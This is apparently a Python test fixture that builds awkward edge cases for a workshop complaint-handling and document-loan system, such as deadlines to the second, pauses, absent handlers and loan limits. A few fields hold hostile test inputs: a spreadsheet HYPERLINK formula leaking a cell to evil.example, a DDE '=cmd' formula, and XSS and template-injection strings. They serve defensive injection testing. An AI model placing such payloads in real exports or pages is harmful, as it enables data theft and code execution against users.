"""The cases that break systems of this kind, written out one by one: each number says what is awkward about it."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING

from complaints import Complaint, Row
from draw import at
from loans import Loan
from words import BODY_SHOP, HEAD_OFFICE, SHOPS

if TYPE_CHECKING:
    from people import Person

EAST, WEST, SOUTH, NORTH = SHOPS
LONG = "客户自述经过：第一次来店、第二次来店、第三次来店均未解决。" * 400

_WORKSHOP = {"regulation": "workshop-complaints"}


class Awkward:
    """Collects the rows of the awkward cases; `late` holds the events that are recorded long after they happened."""

    def __init__(self, people: list[Person]) -> None:
        self._people = people
        self.complaints: list[Complaint] = []
        self.loans: list[Loan] = []
        self.events: list[Row] = []
        self.late: list[Row] = []
        self._plain()
        self._edges_of_time()
        self._pauses()
        self._nobody_there()
        self._dangerous_words()
        self._other_regulations()
        self._loans()

    def _name(self, department: str, place: int) -> str:
        return [person.name for person in self._people if person.department == department][place]

    def _complaint(self, number: str, received: str, **given: str) -> None:
        department = given.get("department", SOUTH)
        row = {
            "customer": "梅先生",
            "phone": "13900001234",
            "channel": "phone",
            "level": "major",
            "department": department,
            "handler": self._name(department, 5),
            "category": "维修质量",
            "content": "更换刹车片后仍有异响，客户要求重新检查。",
            **given,
        }
        self.complaints.append(Complaint(number, at(received), **row))

    def _tell(self, number: str, event: str, moment: str, by: str = "", **extra: str) -> None:
        self.events.append(Row(number, event, at(moment), by, extra))

    def _plain(self) -> None:
        self._complaint("A-made-up-saturday", "2026-02-14 10:00:00")
        self._complaint("A-new-years-day", "2026-02-17 00:00:05", level="crisis")
        self._complaint("A-withdrawn", "2026-02-03 11:00:00")
        self._tell("A-withdrawn", "withdrawn", "2026-02-03 11:05:00")
        self._complaint("A-closed-by-three", "2026-02-03 11:10:00")
        self._tell("A-closed-by-three", "first_contact", "2026-02-03 11:12:00")
        self._tell("A-closed-by-three", "result_returned", "2026-02-03 18:00:00")
        for day in (4, 5, 6):
            self._tell("A-closed-by-three", "unreachable", f"2026-02-0{day} 10:00:00")
        self._tell("A-closed-by-three", "closed", "2026-02-06 10:05:00")
        self._complaint("A-unreachable-five-times", "2026-02-03 11:20:00")
        self._tell("A-unreachable-five-times", "result_returned", "2026-02-03 16:00:00")
        for moment in ("04 09:00", "04 15:00", "05 09:00", "05 15:00", "06 09:00"):
            self._tell("A-unreachable-five-times", "unreachable", f"2026-02-{moment}:00", outcome="no_answer")
        number = "A-reopened-twice"
        self._complaint(number, "2026-02-03 09:00:00")
        for event, moment in (
            ("first_contact", "03 09:05:00"),
            ("follow_up", "03 09:45:00"),
            ("result_returned", "03 17:00:00"),
            ("revisited", "04 10:00:00"),
            ("closed", "04 10:30:00"),
            ("reopened", "06 10:00:00"),
            ("first_contact", "06 10:25:00"),
            ("follow_up", "06 11:00:01"),
            ("result_returned", "07 09:00:00"),
            ("revisited", "10 09:00:01"),
            ("closed", "10 12:00:00"),
            ("reopened", "12 23:55:00"),
        ):
            self._tell(number, event, f"2026-02-{moment}")
        for number, event, moment in (
            ("A-late-first-contact-in-time", "first_contact", "2026-02-10 09:07:00"),
            ("A-late-first-contact-too-late", "first_contact", "2026-02-10 09:25:00"),
            ("A-late-result", "result_returned", "2026-02-10 12:00:00"),
            ("A-late-closing", "closed", "2026-02-10 09:15:00"),
        ):
            self._complaint(number, "2026-02-10 09:00:00", customer=f"{number}先生")
            self.late.append(Row(number, event, at(moment), "", {"note": "补录"}))
        self._complaint("A-late-result-and-revisit", "2026-02-10 09:00:00")
        for event, moment in (("result_returned", "2026-02-10 12:00:00"), ("revisited", "2026-02-13 14:00:00")):
            self.late.append(Row("A-late-result-and-revisit", event, at(moment), "", {"note": "补录"}))
        for number in ("", ""):  # two complaints of one customer in one second, told apart by what they say
            self._complaint(number, "2026-02-04 14:00:00", content=f"第 {len(self.complaints)} 件事")

    def _edges_of_time(self) -> None:
        for number, late in (("A-exactly-due", timedelta()), ("A-one-second-late", timedelta(seconds=1))):
            self._complaint(number, "2026-02-05 09:00:00")
            self._tell(number, "result_returned", "2026-02-05 15:00:00")
            for event, due in (
                ("first_contact", at("2026-02-05 09:10:00")),
                ("follow_up", at("2026-02-05 10:00:00")),
                ("revisited", at("2026-02-08 15:00:00")),
            ):
                self.events.append(Row(number, event, due + late))
        for number, moment in (
            ("A-follow-up-at-minute-12", "09:12:00"),
            ("A-follow-up-exactly-at-opening", "09:40:00"),
            ("A-follow-up-a-second-before-opening", "09:39:59"),
        ):
            self._complaint(number, "2026-02-06 09:00:00", customer=f"{number}女士")
            self._tell(number, "first_contact", "2026-02-06 09:01:00")
            self._tell(number, "follow_up", f"2026-02-06 {moment}")
        self._complaint("A-closed-exactly-when-due", "2026-02-06 13:00:00")
        self._tell("A-closed-exactly-when-due", "closed", "2026-02-06 13:10:00")
        self._complaint("A-over-midnight", "2026-01-31 23:55:30")
        self._complaint("A-contact-exactly-at-a-step", "2026-02-07 09:00:00")
        self._tell("A-contact-exactly-at-a-step", "first_contact", "2026-02-07 09:20:00")

    def _pauses(self) -> None:
        for number, moments in (
            ("A-paused-and-resumed", ("09:05:00", "11:05:00")),
            ("A-paused-a-second-before-the-reminder", ("09:06:59", "09:30:00")),
            ("A-paused-exactly-when-due", ("09:10:00", "10:10:00")),
            ("A-paused-twice", ("09:02:00", "09:04:30", "09:05:00", "12:00:00")),
            ("A-paused-for-good", ("09:03:00",)),
            ("A-paused-between-steps", ("09:15:00", "13:00:00")),
        ):
            self._complaint(number, "2026-02-09 09:00:00", customer=f"{number}女士")
            for index, moment in enumerate(moments):
                self._tell(number, "resumed" if index % 2 else "paused", f"2026-02-09 {moment}")
        self._complaint("A-contact-during-a-pause", "2026-02-09 10:00:00")
        self._tell("A-contact-during-a-pause", "paused", "2026-02-09 10:02:00")
        self._tell("A-contact-during-a-pause", "first_contact", "2026-02-09 10:30:00")
        self._tell("A-contact-during-a-pause", "resumed", "2026-02-09 11:00:00")
        manager = next(person.name for person in self._people if "general_manager" in person.role)
        for number in ("A-postponed", "A-postponed-and-resumed-early"):
            self._complaint(number, "2026-02-05 09:00:00", customer=f"{number}先生")
            self._tell(number, "result_returned", "2026-02-05 10:00:00")
            self._tell(number, "postponement_requested", "2026-02-06 09:00:00", reason="客户外出")
            self._tell(number, "postponement_approved", "2026-02-06 10:00:00", manager, until="2026-02-10 12:00")
        self._tell("A-postponed-and-resumed-early", "resumed", "2026-02-07 10:00:00")

    def _nobody_there(self) -> None:
        self._complaint("A-deputy", "2026-02-10 14:00:00", department=EAST, handler=self._name(EAST, 2))
        self._complaint("A-deputy-away-too", "2026-02-16 09:00:00", department=WEST)
        self._complaint("A-two-levels-away", "2026-02-17 12:00:00", department=WEST)
        self._complaint("A-nobody-up-to-the-top", "2026-02-18 09:00:00", department=WEST)
        self._complaint("A-away-between-steps", "2026-02-04 09:20:00", department=SOUTH)
        self._complaint("A-last-second-of-absence", "2026-02-04 17:20:15", department=SOUTH, customer="边先生")
        self._complaint("A-back-a-second-later", "2026-02-04 17:20:16", department=SOUTH, customer="界先生")
        self._complaint("A-handler-away", "2026-02-03 10:00:00", department=EAST, handler=self._name(EAST, 4))
        self._complaint("A-handler-left-the-company", "2026-02-03 10:30:00", handler="离职者甲")
        self._complaint("A-no-handler", "2026-02-03 10:40:00", handler="")
        self._complaint("A-each-the-others-deputy", "2026-02-18 10:00:00", department=NORTH)
        self._complaint("A-no-revisit-specialist", "2026-02-17 10:00:00", department=BODY_SHOP)

    def _dangerous_words(self) -> None:
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点此退款")'
        self._complaint("A-formula", "2026-02-11 09:00:00", customer=formula)
        self._complaint(
            "A-html",
            "2026-02-11 09:30:00",
            customer="<img src=x onerror=alert(1)>",
            content='<script>alert("xss")</script><b>退款</b> & "赔偿" {{ 7*7 }} {% raw %}',
        )
        self._complaint("A-very-long", "2026-02-11 10:00:00", content=LONG)
        self._complaint(
            "A-lines-and-quotes", "2026-02-11 10:30:00", content='他说:"不修了",\n然后走了;\n第三行,\t带制表符'
        )
        self._complaint("A-rare-characters", "2026-02-11 11:00:00", customer="𠮷田龘㐂", content="😡😡 客户发来表情")

    def _other_regulations(self) -> None:
        for number, level in (("W-two-rounds", "major"), ("W-crisis-goes-on", "crisis")):
            self._complaint(number, "2026-02-03 09:00:00", level=level, regulation="workshop-complaints")
            for event, moment, judged in (
                ("handed_over", "03 09:04:00", ""),
                ("first_contact", "03 09:08:00", ""),
                ("agreement", "03 09:12:00", ""),
                ("result_returned", "03 16:00:00", ""),
                ("second_contact", "04 09:30:00", "dissatisfied"),
                ("handed_over", "04 09:35:00", ""),
                ("agreement", "04 09:50:00", ""),
                ("result_returned", "04 18:00:00", ""),
                ("second_contact", "05 20:00:00", "dissatisfied"),
            ):
                self._tell(number, event, f"2026-02-{moment}", satisfaction=judged)
        self._complaint("W-on-site", "2026-02-14 09:00:00", level="dissatisfied", channel="onsite", **_WORKSHOP)
        self._complaint("W-letter", "2026-02-14 09:00:00", level="dissatisfied", channel="letter", **_WORKSHOP)
        self._complaint("W-unreachable", "2026-02-05 14:00:00", **_WORKSHOP)
        manager = next(person.name for person in self._people if "general_manager" in person.role)
        for event, moment, by in (
            ("handed_over", "05 14:02:00", ""),
            ("unreachable", "05 14:09:00", ""),
            ("unreachable", "05 14:30:00", ""),
            ("postponement_requested", "05 15:00:00", ""),
            ("postponement_refused", "05 16:00:00", manager),
            ("postponement_requested", "05 17:00:00", ""),
        ):
            self._tell("W-unreachable", event, f"2026-02-{moment}", by)
        until = "2026-02-07 09:00:00"
        self._tell("W-unreachable", "postponement_approved", "2026-02-05 18:00:00", manager, until=until)
        for number, category in (
            ("T-severe", "equipment"),
            ("T-unresolved", "费用争议"),
            ("T-wrong-number", "服务态度"),
        ):
            self._complaint(number, "2026-02-05 09:00:00", category=category, regulation="telecom-call-centre")
            self._tell(number, "handed_over", "2026-02-05 10:00:00")
            self._tell(number, "result_returned", "2026-02-06 10:00:01")
        self._tell("T-unresolved", "revisited", "2026-02-07 10:00:00", outcome="unresolved")
        self._tell("T-unresolved", "result_returned", "2026-02-08 10:00:00")
        self._tell("T-wrong-number", "unreachable", "2026-02-07 10:00:00", outcome="wrong_number")

    def _loan(self, number: str, lent: str, borrower: tuple[str, int], **extra: str) -> None:
        department, place = borrower
        name = self._name(department, place)
        item = extra.pop("item", f"{number} 的资料")
        self.loans.append(Loan(number, item, name, department, at(lent), **extra))

    def _loans(self) -> None:
        east, west, south, north = ((shop, 8) for shop in SHOPS)  # they take part in no ordinary loan
        self._loan("L-renewed-on-the-last-day", "2026-01-08 10:00:00", east)
        self._tell("L-renewed-on-the-last-day", "renewed", "2026-02-07 23:59:59")
        self._loan("L-renewed-a-second-late", "2026-01-08 10:00:00", (EAST, 7))
        self._tell("L-renewed-a-second-late", "renewed", "2026-02-08 00:00:00")
        self._loan("L-third-renewal", "2026-01-06 09:30:00", (WEST, 7))
        for day in ("01-15", "01-22", "01-29"):
            self._tell("L-third-renewal", "renewed", f"2026-{day} 10:00:00")
        self._tell("L-third-renewal", "returned", "2026-02-20 10:00:00")
        for index in range(1, 8):  # the sixth and the seventh are too many
            self._loan(f"L-item-{index}-of-7", f"2026-01-12 10:{index:02d}:00", west)
        self._loan("L-six-at-once", "2026-01-13 11:00:00", (BODY_SHOP, 5), quantity="6")
        for index in range(1, 8):
            self._tell(f"L-item-{index}-of-7", "returned", f"2026-02-{index:02d} 16:00:00")
        self._loan("L-seven-days-late", "2026-01-05 10:00:00", south)  # due on 4 February
        self._loan("L-borrows-six-days-late", "2026-02-10 23:59:59", south)
        self._loan("L-borrows-seven-days-late", "2026-02-11 09:00:00", south)
        self._tell("L-seven-days-late", "returned", "2026-02-12 15:00:00")
        self._loan("L-borrows-after-return", "2026-02-12 15:00:01", south)
        for number, moment in (
            ("L-back-before-the-notice", "08:59:59"),
            ("L-back-at-the-notice", "09:00:00"),
            ("L-back-after-the-notice", "09:00:01"),
        ):
            self._loan(number, "2026-01-07 15:00:00", (SOUTH, 7))
            self._tell(number, "returned", f"2026-02-06 {moment}")
        self._loan("L-due-at-new-year", "2026-01-18 10:00:00", north)
        self._loan("L-month-end", "2026-01-31 10:00:00", north, regulation="utility-library")
        self._loan("L-no-department-head", "2026-01-09 10:00:00", (HEAD_OFFICE, 4))
        self._loan("L-formula", "2026-01-10 10:00:00", (NORTH, 7), item="=cmd|' /C calc'!A0", purpose="@SUM(1+1)")
        self._loan("L-secret", "2026-01-10 10:10:00", (NORTH, 7), item="机密改装图纸", secrecy="secret")
        self._loan("L-lost", "2026-01-10 10:20:00", (NORTH, 7))
        self._tell("L-lost", "lost", "2026-02-10 10:00:00")
        self._loan("L-recalled", "2026-01-20 10:00:00", (BODY_SHOP, 4))
        self._tell("L-recalled", "recalled", "2026-02-03 10:00:00")
        outside = Loan("L-borrower-from-outside", "质量体系文件", "外部审计员", EAST, at("2026-01-09 11:00:00"))
        self.loans.append(outside)
        self._loan("L-late-return", "2026-01-11 10:00:00", (HEAD_OFFICE, 3))
        self.late.append(Row("L-late-return", "returned", at("2026-02-09 16:00:00"), "", {"note": "补录"}))
        self.loans.append(Loan("", "没有编号的资料", outside.borrower, EAST, at("2026-01-09 11:30:00")))


RESERVED = frozenset(
    {(shop, place) for shop in SHOPS for place in (7, 8)}
    | {(BODY_SHOP, 4), (BODY_SHOP, 5), (HEAD_OFFICE, 3), (HEAD_OFFICE, 4)}
)
"""People who take part in no ordinary loan, so that what happens to the awkward ones is theirs alone."""
